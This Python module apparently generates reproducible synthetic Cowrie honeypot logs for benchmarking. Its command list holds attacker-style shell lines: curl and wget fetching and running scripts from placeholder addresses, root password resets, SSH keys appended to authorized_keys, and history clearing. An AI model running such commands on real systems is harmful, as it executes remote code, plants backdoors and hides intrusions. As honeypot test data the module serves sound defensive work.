"""What is measured with: a Cowrie log and command lines, made from a seed, the same for ever."""

from __future__ import annotations

import json
import random
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta

SEED = 16
COMMANDS = 10
"""Command lines of a session."""
LINES = COMMANDS + 5
"""Lines of a session: connect, client, a failed log-in, a log-in, its commands, and the end."""
ADDRESSES = 400
START = datetime(2026, 1, 5, tzinfo=UTC)
_HABITS = (
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "nproc; free -m",
    "cd /tmp || cd /var/run || cd /mnt",
    "wget http://203.0.113.{n}/b{n}.sh -O /tmp/b{n}.sh",
    "curl -s http://203.0.113.{n}/k | sh",
    "chmod 777 /tmp/b{n}.sh; sh /tmp/b{n}.sh",
    "crontab -l",
    "echo 'root:x{n}' | chpasswd",
    "mkdir -p ~/.ssh && echo 'ssh-rsa AAAAB3Nza{n} k' >> ~/.ssh/authorized_keys",
    "ls -la /home/u{n}",
    "cat /etc/passwd",
    "w",
    "ps aux | grep x{n}",
    "rm -rf /tmp/b{n}.sh",
    "echo hello {n}",
    "history -c",
    "iptables -L -n",
)


def log_lines(sessions: int, seed: int = SEED, *, scripts: int = 0) -> Iterator[str]:
    """A Cowrie log of so many sessions, :data:`LINES` lines each, one session after the other.

    Each is another one, or with ``scripts`` one of so many, as programs play them again and again.
    """
    dice, clock = random.Random(seed), START  # noqa: S311  repeatable, not secret
    for number in range(sessions):
        session = f"{number:012x}"
        address = f"198.51.100.{dice.randrange(ADDRESSES) % 250 + 1}"
        for record in _session(random.Random(dice.randrange(scripts)) if scripts else dice):  # noqa: S311
            clock += timedelta(milliseconds=dice.randrange(50, 1500))
            yield json.dumps({
                **record, "session": session, "src_ip": address, "sensor": "bench", "message": "",
                "timestamp": clock.strftime("%Y-%m-%dT%H:%M:%S.%fZ"),
            })  # fmt: skip


def _session(dice: random.Random) -> Iterator[dict[str, object]]:
    port = dice.randrange(1024, 65535)
    yield {"eventid": "cowrie.session.connect", "src_port": port, "dst_ip": "192.0.2.1", "dst_port": 2222, "protocol": "ssh"}  # fmt: skip
    yield {"eventid": "cowrie.client.version", "version": "SSH-2.0-Go"}
    yield {"eventid": "cowrie.login.failed", "username": "root", "password": f"p{port % 97}"}
    yield {"eventid": "cowrie.login.success", "username": "root", "password": "admin"}
    for _ in range(COMMANDS):
        yield {"eventid": "cowrie.command.input", "input": _command(dice, 250)}
    yield {"eventid": "cowrie.session.closed", "duration": "9.0"}


def _command(dice: random.Random, variety: int) -> str:
    return dice.choice(_HABITS).format(n=dice.randrange(1, variety))


def distinct_commands(count: int, seed: int = SEED) -> Iterator[str]:
    """Command lines of which no two are the same: nothing may be answered from memory."""
    dice = random.Random(seed)  # noqa: S311
    return (f"{_command(dice, 250)} #{number}" for number in range(count))


def usual_commands(count: int, seed: int = SEED) -> Iterator[str]:
    """Command lines as honeypots see them: a few hundred, again and again."""
    dice = random.Random(seed)  # noqa: S311
    return (_command(dice, 40) for _ in range(count))
